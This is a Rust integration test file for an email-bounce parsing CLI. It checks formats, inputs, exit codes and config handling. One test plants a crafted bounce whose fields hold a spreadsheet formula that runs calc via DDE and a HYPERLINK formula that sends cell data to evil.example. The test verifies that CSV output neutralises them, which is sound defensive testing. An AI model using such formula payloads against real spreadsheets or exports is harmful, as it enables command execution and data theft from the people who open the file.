//! The `rebound` command as a user runs it: formats, inputs of every kind, errors that
//! name the input, and exit codes.

use std::path::PathBuf;
use std::process::{Command, Output};

fn rebound(args: &[&str]) -> Output {
    Command::new(env!("CARGO_BIN_EXE_rebound"))
        .args(args)
        .current_dir(env!("CARGO_MANIFEST_DIR"))
        .output()
        .expect("run rebound")
}

fn fixture(name: &str) -> String {
    format!("fixtures/handwritten/{name}")
}

fn temp(name: &str) -> PathBuf {
    let d = std::env::temp_dir().join(format!("rebound-cli-{}-{name}", std::process::id()));
    let _ = std::fs::remove_dir_all(&d);
    std::fs::create_dir_all(&d).expect("temp dir");
    d
}

#[test]
fn parse_prints_jsonl_in_the_corpus_shape() {
    let out = rebound(&[
        "parse",
        "--format",
        "jsonl",
        &fixture("03-dsn-blocklist.eml"),
    ]);
    assert!(
        out.status.success(),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
    let line: serde_json::Value = serde_json::from_slice(&out.stdout).expect("one JSON line");
    let b = &line["bounces"][0];
    assert_eq!(b["recipient"], "ana@mx.receiver.example");
    assert_eq!(b["reason"], "blocked");
    assert_eq!(b["hard"], false);
    assert_eq!(b["blocklist"]["list"], "zen.spamhaus.org");
    assert_eq!(b["blocklist"]["listed_ip"], "192.0.2.44");
    assert_eq!(b["keys"]["envelope_id"], "camp42-r17");
    assert_eq!(b["keys"]["verp"], "x9y8z7");
    assert_eq!(
        b["keys"]["original_message_id"],
        "campaign-42.ana@list.example"
    );
    assert!(b["keys"]["queue_ids"]
        .as_array()
        .is_some_and(|q| q.iter().any(|v| v == "B7C1D2E3")));
    assert_eq!(b["evidence"]["module"], "rfc3464");
}

#[test]
fn parse_reads_directories_mbox_and_stdin() {
    let dir = temp("inputs");
    let a = std::fs::read(fixture("04-qmail-two.eml")).expect("fixture");
    let b = std::fs::read(fixture("01-vacation.eml")).expect("fixture");
    let mut mbox = b"From MAILER-DAEMON Thu Nov  5 11:02:10 2026\n".to_vec();
    mbox.extend_from_slice(&a);
    mbox.extend_from_slice(b"\nFrom hana@garden.example Mon Nov  2 09:12:44 2026\n");
    mbox.extend_from_slice(&b);
    std::fs::write(dir.join("box.mbox"), &mbox).expect("write mbox");
    let out = rebound(&[
        "parse",
        "--format",
        "jsonl",
        dir.to_str().expect("utf-8 path"),
    ]);
    assert!(
        out.status.success(),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
    let text = String::from_utf8_lossy(&out.stdout);
    assert_eq!(text.lines().count(), 2, "{text}");
    assert!(text.contains("box.mbox#1") && text.contains("box.mbox#2"));
    assert!(text.contains("\"vacation\""));

    let mut child = Command::new(env!("CARGO_BIN_EXE_rebound"))
        .args(["parse", "--format", "csv", "-"])
        .stdin(std::process::Stdio::piped())
        .stdout(std::process::Stdio::piped())
        .spawn()
        .expect("spawn");
    use std::io::Write;
    child
        .stdin
        .take()
        .expect("stdin")
        .write_all(&a)
        .expect("write stdin");
    let out = child.wait_with_output().expect("wait");
    assert!(
        out.status.success(),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
    let csv = String::from_utf8_lossy(&out.stdout);
    assert!(csv.starts_with("file,recipient,action,status"), "{csv}");
    assert!(csv.contains("gone@remote.example") && csv.contains("stuffed@remote.example"));
}

#[test]
fn bad_inputs_are_named_and_the_rest_still_decode() {
    let dir = temp("bad");
    std::fs::write(dir.join("empty.eml"), b"").expect("write");
    std::fs::copy(fixture("03-dsn-blocklist.eml"), dir.join("good.eml")).expect("copy");
    let missing = dir.join("no-such-file.eml");
    let out = rebound(&[
        "parse",
        "--format",
        "jsonl",
        dir.to_str().expect("path"),
        missing.to_str().expect("path"),
    ]);
    assert_eq!(out.status.code(), Some(1));
    let err = String::from_utf8_lossy(&out.stderr);
    assert!(err.contains("empty.eml"), "{err}");
    assert!(err.contains("no-such-file.eml"), "{err}");
    assert!(String::from_utf8_lossy(&out.stdout).contains("ana@mx.receiver.example"));
}

#[test]
fn eval_prints_figures_and_enforces_floors() {
    let out = rebound(&["eval", "fixtures/handwritten", "--format", "json"]);
    assert!(
        out.status.success(),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
    let v: serde_json::Value = serde_json::from_slice(&out.stdout).expect("json");
    assert_eq!(v["percent"]["full"], 100.0);
    assert_eq!(v["total"]["files"], 7);

    let dir = temp("floor");
    std::fs::copy(fixture("04-qmail-two.eml"), dir.join("a.eml")).expect("copy");
    std::fs::write(
        dir.join("expected.jsonl"),
        r#"{"file": "a.eml", "bounces": [{"recipient": "gone@remote.example", "status": "5.1.1", "replycode": "550", "reason": "mailboxfull", "hard": false}]}"#,
    )
    .expect("write");
    let before = std::fs::read(dir.join("expected.jsonl")).expect("read");
    let out = rebound(&[
        "eval",
        dir.to_str().expect("path"),
        "--min-full",
        "90",
        "--json",
    ]);
    assert_eq!(out.status.code(), Some(1));
    assert!(String::from_utf8_lossy(&out.stderr).contains("below the floor"));
    // The floor failed because of the one wrong expectation, which eval counted ...
    let v: serde_json::Value = serde_json::from_slice(&out.stdout).expect("json");
    assert_eq!(v["total"]["files"], 1, "{v}");
    assert_eq!(v["percent"]["full"], 0.0, "{v}");
    // ... and left the expectations as they were (no re-blessing without being asked).
    assert_eq!(
        std::fs::read(dir.join("expected.jsonl")).expect("read"),
        before
    );
}

#[test]
fn eval_names_a_broken_expectations_line() {
    let dir = temp("broken-jsonl");
    std::fs::write(
        dir.join("expected.jsonl"),
        "{\"file\": \"x.eml\", \"bounces\": [}\n",
    )
    .expect("write");
    let out = rebound(&["eval", dir.to_str().expect("path")]);
    assert_eq!(out.status.code(), Some(1));
    let err = String::from_utf8_lossy(&out.stderr);
    assert!(err.contains("expected.jsonl:1"), "{err}");
}

/// Issue 11: a crafted bounce whose diagnostic is a spreadsheet formula with terminal
/// control bytes comes out of `parse --format csv` as inert text.
#[test]
fn parse_csv_neutralises_formulas_and_control_bytes() {
    let dir = temp("formula");
    let msg = "From: MAILER-DAEMON@evil.example\nTo: list@example.org\nSubject: Undelivered\n\
MIME-Version: 1.0\nContent-Type: multipart/report; report-type=delivery-status; boundary=\"b\"\n\n\
--b\nContent-Type: message/delivery-status\n\nReporting-MTA: dns; =cmd|' /C calc'!A0\n\n\
Final-Recipient: rfc822; ann@remote.example\nAction: failed\nStatus: 5.1.1\n\
Diagnostic-Code: =HYPERLINK(\"http://evil.example/?\"&A1,\"5.1.1 user unknown\")\x1b[2J\x07\n\n--b--\n";
    std::fs::write(dir.join("evil.eml"), msg).expect("write");
    let out = rebound(&[
        "parse",
        "--format",
        "csv",
        dir.join("evil.eml").to_str().expect("path"),
    ]);
    assert!(
        out.status.success(),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
    assert!(
        !out.stdout.iter().any(|&b| b == 0x1b || b == 0x07),
        "control bytes in the CSV"
    );
    let mut r = csv::Reader::from_reader(&out.stdout[..]);
    let header = r.headers().expect("header").clone();
    let rows: Vec<csv::StringRecord> = r.records().map(|r| r.expect("row")).collect();
    assert_eq!(rows.len(), 1, "{}", String::from_utf8_lossy(&out.stdout));
    let cell = |name: &str| {
        let i = header.iter().position(|h| h == name).expect(name);
        rows[0][i].to_string()
    };
    assert_eq!(cell("recipient"), "ann@remote.example");
    let diag = cell("diagnostic_code");
    assert!(diag.starts_with("'=HYPERLINK("), "{diag}");
    assert!(
        cell("reporting_mta").starts_with("'="),
        "{}",
        cell("reporting_mta")
    );
    for (i, value) in rows[0].iter().enumerate() {
        let first = value.trim_start().chars().next();
        assert!(
            !matches!(first, Some('=' | '+' | '-' | '@')),
            "column {} is a formula: {value}",
            &header[i]
        );
    }
}

/// Issue 11: symlinks to `.`, a loop `sub/x -> ..`, a FIFO and a link to `/dev/zero` in
/// the folder: each real directory is read once, the special files are skipped with a
/// message, and nothing blocks.
#[test]
fn parse_walks_each_directory_once_and_skips_special_files() {
    let dir = temp("loops");
    std::fs::create_dir_all(dir.join("sub")).expect("mkdir");
    std::fs::copy(fixture("04-qmail-two.eml"), dir.join("a.eml")).expect("copy");
    std::fs::copy(fixture("03-dsn-blocklist.eml"), dir.join("sub/b.eml")).expect("copy");
    std::os::unix::fs::symlink(".", dir.join("l1")).expect("symlink");
    std::os::unix::fs::symlink(".", dir.join("l2")).expect("symlink");
    std::os::unix::fs::symlink("..", dir.join("sub/x")).expect("symlink");
    std::os::unix::fs::symlink("/dev/zero", dir.join("zero")).expect("symlink");
    let fifo = dir.join("pipe");
    let made = Command::new("mkfifo").arg(&fifo).status().expect("mkfifo");
    assert!(made.success());
    let mut child = Command::new(env!("CARGO_BIN_EXE_rebound"))
        .args(["parse", "--format", "jsonl", dir.to_str().expect("path")])
        .stdout(std::process::Stdio::piped())
        .stderr(std::process::Stdio::piped())
        .spawn()
        .expect("spawn");
    let start = std::time::Instant::now();
    while child.try_wait().expect("wait").is_none() {
        if start.elapsed() > std::time::Duration::from_secs(60) {
            let _ = child.kill();
            panic!("parse did not finish in 60 s (blocked on the FIFO or looping)");
        }
        std::thread::sleep(std::time::Duration::from_millis(50));
    }
    let out = child.wait_with_output().expect("output");
    let stdout = String::from_utf8_lossy(&out.stdout);
    let stderr = String::from_utf8_lossy(&out.stderr);
    // skipped entries of a walk are reported, not failures
    assert!(out.status.success(), "{stderr}");
    let files: Vec<String> = stdout
        .lines()
        .map(|l| {
            let v: serde_json::Value = serde_json::from_str(l).expect("json line");
            v["file"].as_str().expect("file").to_string()
        })
        .collect();
    assert_eq!(files.len(), 2, "each message once: {files:?}");
    assert!(
        files[0].ends_with("/a.eml") && files[1].ends_with("/sub/b.eml"),
        "{files:?}"
    );
    assert!(
        stderr.contains("pipe': skipped, not a regular file (a FIFO)"),
        "{stderr}"
    );
    assert!(
        stderr.contains("zero': skipped, not a regular file (a character device)"),
        "{stderr}"
    );

    // Named on the command line, a device is an error, read not at all.
    let out = rebound(&["parse", "--format", "jsonl", "/dev/zero"]);
    assert_eq!(out.status.code(), Some(1));
    assert!(String::from_utf8_lossy(&out.stderr).contains("'/dev/zero': not a regular file"));
}

/// Issue 11: a DSN over the parse limit (100,000 recipients, about 6 MB) is decoded as far
/// as the limit and says so, on stderr and in every output format.
#[test]
fn parse_marks_a_message_over_the_limit_as_truncated() {
    let dir = temp("truncated");
    let mut msg = String::from(
        "From: MAILER-DAEMON@mx.example\nSubject: Undelivered\nMIME-Version: 1.0\n\
Content-Type: multipart/report; report-type=delivery-status; boundary=\"B\"\n\n\
--B\nContent-Type: message/delivery-status\n\nReporting-MTA: dns; mx.example\n\n",
    );
    for i in 0..100_000 {
        msg.push_str(&format!(
            "Final-Recipient: rfc822; u{i}@example.com\nAction: failed\nStatus: 5.1.1\n\n"
        ));
    }
    msg.push_str("--B--\n");
    assert!(msg.len() > rebound::decode::MAX_PARSE);
    let big = dir.join("big.eml");
    std::fs::write(&big, &msg).expect("write");
    std::fs::copy(fixture("04-qmail-two.eml"), dir.join("small.eml")).expect("copy");
    let small = dir.join("small.eml");
    let args = |format: &'static str| {
        rebound(&[
            "parse",
            "--format",
            format,
            big.to_str().expect("path"),
            small.to_str().expect("path"),
        ])
    };
    let out = args("jsonl");
    assert!(out.status.success());
    let stderr = String::from_utf8_lossy(&out.stderr);
    assert!(
        stderr.contains("big.eml': longer than the 4 MiB parse limit"),
        "{stderr}"
    );
    assert!(!stderr.contains("small.eml"), "{stderr}");
    let lines: Vec<serde_json::Value> = String::from_utf8_lossy(&out.stdout)
        .lines()
        .map(|l| serde_json::from_str(l).expect("json"))
        .collect();
    assert_eq!(lines.len(), 2);
    assert_eq!(lines[0]["truncated"], true);
    let n = lines[0]["bounces"].as_array().expect("bounces").len();
    assert!(n > 1000 && n < 100_000, "{n} facts from the cut message");
    assert!(lines[1].get("truncated").is_none(), "{}", lines[1]);

    let out = args("csv");
    assert!(out.status.success());
    let mut r = csv::Reader::from_reader(&out.stdout[..]);
    let col = r
        .headers()
        .expect("header")
        .iter()
        .position(|h| h == "truncated")
        .expect("truncated column");
    let marks: Vec<(String, String)> = r
        .records()
        .map(|r| {
            let r = r.expect("row");
            (r[0].to_string(), r[col].to_string())
        })
        .collect();
    assert_eq!(
        marks.len(),
        n + 2,
        "the cut message's facts and small.eml's two"
    );
    assert!(marks
        .iter()
        .all(|(f, t)| (f.ends_with("big.eml") && t == "true")
            || (f.ends_with("small.eml") && t == "false")));

    let out = args("table");
    assert!(out.status.success());
    let table = String::from_utf8_lossy(&out.stdout);
    assert!(
        table
            .lines()
            .nth(1)
            .is_some_and(|l| l.starts_with("big.eml (truncated)")),
        "{}",
        table.lines().nth(1).unwrap_or("")
    );
}

/// `init` writes a configuration every command reads as written, and never overwrites.
#[test]
fn init_writes_a_configuration_every_command_reads() {
    let d = temp("init");
    let run_in = |args: &[&str]| {
        Command::new(env!("CARGO_BIN_EXE_rebound"))
            .args(args)
            .current_dir(&d)
            .env("REBOUND_SMTP_PASSWORD", "not-used")
            .output()
            .expect("run rebound")
    };
    let out = run_in(&["init"]);
    assert!(
        out.status.success(),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
    let config = std::fs::read_to_string(d.join("rebound.toml")).expect("rebound.toml");
    // poll's reader takes the [poll] section; the policy parses.
    let section = rebound::poll::config::load(&d.join("rebound.toml")).expect("[poll] reads");
    assert_eq!(section.accounts.len(), 1);
    rebound::hygiene::Policy::load(Some(&d.join("policy.toml"))).expect("policy reads");
    // send reads [send]: it gets as far as the message file it names.
    let out = run_in(&["send", "--campaign", "first"]);
    let err = String::from_utf8_lossy(&out.stderr);
    assert!(
        !out.status.success() && err.contains("'message.eml'"),
        "{err}"
    );
    // run reads [run]: its clean job names the same list.
    let out = run_in(&["run", "--no-poll"]);
    let said = String::from_utf8_lossy(&out.stdout);
    assert_eq!(out.status.code(), Some(1), "{said}");
    assert!(
        said.contains("clean FAILED: cannot read 'list.csv'"),
        "{said}"
    );
    // serve reads [serve]: loopback, no provider until one is set.
    #[derive(serde::Deserialize)]
    struct WithServe {
        serve: rebound::serve::ServeConfig,
    }
    let file: WithServe =
        rebound::configfile::parse(&config, &d.join("rebound.toml")).expect("[serve] reads");
    let serve = rebound::serve::Settings::new(&file.serve, None).expect("[serve] settings");
    assert_eq!(serve.listen.to_string(), "127.0.0.1:8025");
    // A second init changes nothing.
    std::fs::write(d.join("policy.toml"), "# mine\n").unwrap();
    let out = run_in(&["init"]);
    assert!(!out.status.success());
    assert!(String::from_utf8_lossy(&out.stderr).contains("already exist"));
    assert_eq!(
        std::fs::read_to_string(d.join("rebound.toml")).unwrap(),
        config
    );
    assert_eq!(
        std::fs::read_to_string(d.join("policy.toml")).unwrap(),
        "# mine\n"
    );
}

/// `parse --format sisimai` writes every field of Sisimai's own dump (run here on the same
/// files), with the same values where rebound knows them.
#[test]
fn parse_as_sisimai_has_sisimais_fields_and_values() {
    let dir = "fixtures/postfix";
    let mut files: Vec<String> = std::fs::read_dir(dir)
        .expect("fixtures")
        .map(|e| e.expect("entry").path().display().to_string())
        .filter(|p| p.ends_with(".eml"))
        .collect();
    files.sort();
    let mut compared = 0;
    for file in files.iter().take(6) {
        let ours = rebound(&["parse", "--format", "sisimai", file]);
        assert!(
            ours.status.success(),
            "{}",
            String::from_utf8_lossy(&ours.stderr)
        );
        let ours: Vec<serde_json::Value> =
            serde_json::from_slice(&ours.stdout).expect("a JSON array");
        let theirs = Command::new("perl")
            .args(["-MSisimai", "-e", "print Sisimai->dump($ARGV[0])", file])
            .current_dir(env!("CARGO_MANIFEST_DIR"))
            .output()
            .expect("perl with Sisimai (Debian libsisimai-perl; scripts/test installs it)");
        assert!(
            theirs.status.success(),
            "Sisimai: {}",
            String::from_utf8_lossy(&theirs.stderr)
        );
        let theirs: Vec<serde_json::Value> =
            serde_json::from_slice(&theirs.stdout).expect("Sisimai's JSON");
        for t in &theirs {
            let o = ours
                .iter()
                .find(|o| o["recipient"] == t["recipient"])
                .unwrap_or_else(|| panic!("{file}: no record for {}", t["recipient"]));
            for key in t.as_object().expect("object").keys() {
                assert!(o.get(key).is_some(), "{file}: field {key} missing");
            }
            for key in [
                "timestamp",
                "destination",
                "action",
                "messageid",
                "recipient",
                "origin",
            ] {
                assert_eq!(o[key], t[key], "{file}: {key}");
            }
            compared += 1;
        }
    }
    assert!(compared >= 5, "only {compared} records compared");
}

#[test]
fn parse_names_non_bounces_and_writes_the_extension_s_format() {
    let d = temp("parse-out");
    let out_csv = d.join("facts.csv");
    let out = rebound(&[
        "parse",
        "fixtures/handwritten",
        "-o",
        out_csv.to_str().unwrap(),
    ]);
    assert!(
        out.status.success(),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
    let csv = std::fs::read_to_string(&out_csv).expect("facts.csv");
    let header = csv.lines().next().unwrap_or("");
    for col in ["date", "envelope_id", "queue_ids", "original_message_id"] {
        assert!(header.split(',').any(|c| c == col), "{header}");
    }
    let out = rebound(&[
        "parse",
        "--format",
        "table",
        "fixtures/handwritten/05-not-a-bounce.eml",
    ]);
    let table = String::from_utf8_lossy(&out.stdout);
    assert!(
        table.contains("05-not-a-bounce.eml") && table.contains("not a bounce"),
        "{table}"
    );
}

/// rebound.toml is read whole by every command: a misspelt section or key is refused
/// with its line, whichever command reads the file, and nothing is done.
#[test]
fn every_command_refuses_an_unknown_section_or_key_with_its_line() {
    let d = temp("config-typos");
    let run_in = |args: &[&str]| {
        let out = Command::new(env!("CARGO_BIN_EXE_rebound"))
            .args(args)
            .current_dir(&d)
            .output()
            .expect("run rebound");
        (
            out.status.code(),
            String::from_utf8_lossy(&out.stdout).to_string()
                + &String::from_utf8_lossy(&out.stderr),
        )
    };
    let (code, _) = run_in(&["suppress", "add", "x@y.example"]);
    assert_eq!(code, Some(0));
    for (text, line) in [
        (
            "[send]\nfrom = \"b@x.example\"\n\n[sned]\nserver = \"x\"\n",
            "line 4",
        ),
        ("[poll]\nbatchsize = 3\n", "line 2"),
        ("[run]\nreport_dayz = 7\n", "line 2"),
    ] {
        std::fs::write(d.join("rebound.toml"), text).unwrap();
        for args in [
            &[
                "send",
                "--campaign",
                "c",
                "--recipients",
                "l.csv",
                "--message",
                "m.eml",
            ][..],
            &["poll"],
            &["run"],
            &["report", "--since", "7d"],
            &["blocklist", "check", "192.0.2.1"],
            &["doctor"],
        ] {
            let (code, out) = run_in(args);
            assert_ne!(code, Some(0), "{args:?} with {text:?}: {out}");
            assert!(
                out.contains(line),
                "{args:?} with {text:?}: want {line} in {out}"
            );
        }
    }
}
